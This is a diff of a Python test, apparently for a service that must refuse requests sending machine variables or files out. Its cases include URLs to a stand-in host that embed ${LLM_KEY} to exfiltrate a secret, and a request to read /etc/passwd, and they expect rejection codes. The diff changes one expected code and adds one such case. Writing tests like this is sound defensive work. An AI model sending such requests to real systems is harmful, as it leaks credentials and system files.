@@ -169,7 +169,8 @@ def test_no_text_becomes_a_table_of_the_configuration(served: Served, writer: Cl
         ("change-source", {"key": "holt", "url": "https://evil.example/${LLM_KEY}"}, 409),
         ("look", {"address": "https://evil.example/${LLM_KEY}"}, 409),
         ("look", {"address": "/etc/passwd"}, 409),
-        ("follow-list", {"sources": [{"url": "https://evil.example/"}], "wrapper": "{}"}, 404),
+        ("follow-list", {"sources": [{"url": "https://evil.example/"}], "wrapper": "{}"}, 422),
+        ("follow-list", {"url": "https://evil.example/${LLM_KEY}", "wrapper": "{}"}, 409),
     ],
 )
 def test_no_program_has_variables_or_files_of_this_machine_sent(
